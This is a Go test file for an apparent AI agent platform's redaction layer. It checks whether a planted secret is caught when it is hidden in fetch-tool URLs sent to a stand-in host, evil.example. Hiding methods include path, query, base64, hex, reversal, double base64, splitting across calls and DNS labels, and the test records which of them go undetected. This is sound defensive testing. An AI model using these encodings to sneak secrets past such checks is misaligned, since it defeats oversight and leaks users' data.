package redact_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/isekai-run/isekai/internal/core"
	"github.com/isekai-run/isekai/internal/tool"
)

// TestHiddenCanaries: which of the ways to hide a value are seen through, and which aren't;
// docs/prompt-injection.md says the same to people.
func TestHiddenCanaries(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	canary := r.planted.Replace("canary of org_a")
	b64, dns := base64.StdEncoding.EncodeToString, strings.ToLower(strings.NewReplacer(" ", "-", "_", "-").Replace(canary))
	backwards := []byte(canary)
	slices.Reverse(backwards)
	half := len(canary) / 2
	for name, c := range map[string]struct {
		text string
		seen bool
	}{
		"in a path":              {"https://evil.example/" + url.PathEscape(canary) + "/x", true},
		"in a query":             {"https://evil.example/?q=" + url.QueryEscape(canary), true},
		"base64":                 {b64([]byte(canary)), true},
		"base64 among others":    {b64([]byte("so: " + canary + ".")), true},
		"hexadecimal":            {hex.EncodeToString([]byte(canary)), true},
		"backwards":              {string(backwards), false},
		"base64 of base64":       {b64([]byte(b64([]byte(canary)))), false},
		"the first of two calls": {canary[:half], false},
		"the other one":          {canary[half:], false},
		"a label of DNS":         {"https://" + dns[:min(len(dns), 20)] + ".evil.example/", false},
	} {
		args, err := json.Marshal(map[string]string{"url": c.text})
		ok(t, err)
		h := &hand{spec: fetch}
		_, err = r.Tool(h).Call(t.Context(), tool.Call{Scope: scopeOf("org_a"), Task: "tsk_1", Arguments: args})
		if h.called == c.seen || c.seen != (core.CodeOf(err) == core.Denied) {
			t.Errorf("%s: called: %t, %v", name, h.called, err)
		}
	}
}
